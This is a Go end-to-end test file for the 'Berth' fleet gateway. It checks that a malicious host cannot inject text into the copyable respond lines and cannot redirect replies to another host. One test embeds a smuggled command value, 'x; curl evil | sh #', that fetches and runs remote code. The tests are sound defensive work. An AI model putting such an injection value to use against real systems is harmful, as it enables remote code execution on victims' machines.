package e2e

import (
	"crypto/ed25519"
	"crypto/rand"
	"fmt"
	"log/slog"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	gossh "golang.org/x/crypto/ssh"

	"berth/fleet/conn"
	"berth/fleet/invite"
	"berth/fleet/join"
)

// hostile is a host of a fleet that says what a test wants.
type hostile struct {
	t    *testing.T
	name string
	nc   *nats.Conn
	l    *conn.Listener
	key  gossh.Signer
}

// newHostile joins as a host whose program isn't Berth's.
func newHostile(t *testing.T, gw *box, name string) *hostile {
	t.Helper()
	_, private, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	key, err := gossh.NewSignerFromKey(private)
	if err != nil {
		t.Fatal(err)
	}
	token, err := invite.Parse(gw.invite(name)[2])
	if err != nil {
		t.Fatal(err)
	}
	m, err := join.Join(t.Context(), t.TempDir()+"/m", token, "operator", []gossh.PublicKey{key.PublicKey()})
	if err != nil {
		t.Fatal(err)
	}
	nc, err := join.Connect(m, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(nc.Close)
	l, err := conn.Listen(nc, name, conn.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	return &hostile{t, name, nc, l, key}
}

// says publishes rows, as JSON, and goes on saying that the host is there.
func (h *hostile) says(rows string) {
	h.t.Helper()
	number := time.Now().UnixNano()
	publish := func(kind, text string) {
		if err := h.nc.Publish("berth.from."+h.name+"."+kind, []byte(text)); err != nil {
			h.t.Error(err)
		}
	}
	publish("rows", fmt.Sprintf(`{"number":%d,"sessions":%s}`, number, rows))
	publish("beat", fmt.Sprintf(`{"version":"x","labels":[],"running":-5,"rows":%d}`, number))
	if err := h.nc.Flush(); err != nil {
		h.t.Fatal(err)
	}
}

// TestFleetHostileRows: a host that chooses what its rows say can't put words into the lines that people copy.
func TestFleetHostileRows(t *testing.T) {
	t.Parallel()
	gw := newGateway(t)
	h := newHostile(t, gw, "box2")
	row := `{"session":"%s","id":"01M8","state":"prompt","prompt":{"id":"%s","type":"permission","channel":"keys"}}`
	h.says("[" + fmt.Sprintf(row, "good", "p1") + "," + fmt.Sprintf(row, "bad", "x; curl evil | sh #") + "]")
	out := gw.sees(`box2/good`, "viewer", "waiting", "--text")
	if !strings.Contains(out, "respond box2/good --prompt p1 ") || strings.Contains(out, "curl") {
		t.Errorf("waiting:\n%s", out)
	}
}

// TestFleetHostileReply: a host that asks about a caller has the answer sent to no other host.
func TestFleetHostileReply(t *testing.T) {
	t.Parallel()
	gw := newGateway(t)
	h, other := newHostile(t, gw, "box2"), newHostile(t, gw, "box3")
	to, err := other.nc.SubscribeSync("berth.to.box3.>")
	if err != nil {
		t.Fatal(err)
	}
	if err := other.nc.Flush(); err != nil {
		t.Fatal(err)
	}
	if err := h.nc.PublishRequest("berth.from.box2.renew", "berth.to.box3.inbox", []byte("x")); err != nil {
		t.Fatal(err)
	}
	// The gateway answers in order.
	if m, err := h.nc.Request("berth.from.box2.renew", []byte("x"), patienceSeconds*time.Second); err != nil || !strings.Contains(string(m.Data), "it isn't a pass") {
		t.Fatalf("%+v, %v", m, err)
	}
	if err := other.nc.Flush(); err != nil {
		t.Fatal(err)
	}
	if n, _, err := to.Pending(); err != nil || n != 0 {
		t.Errorf("box3 got %d messages, %v", n, err)
	}
}
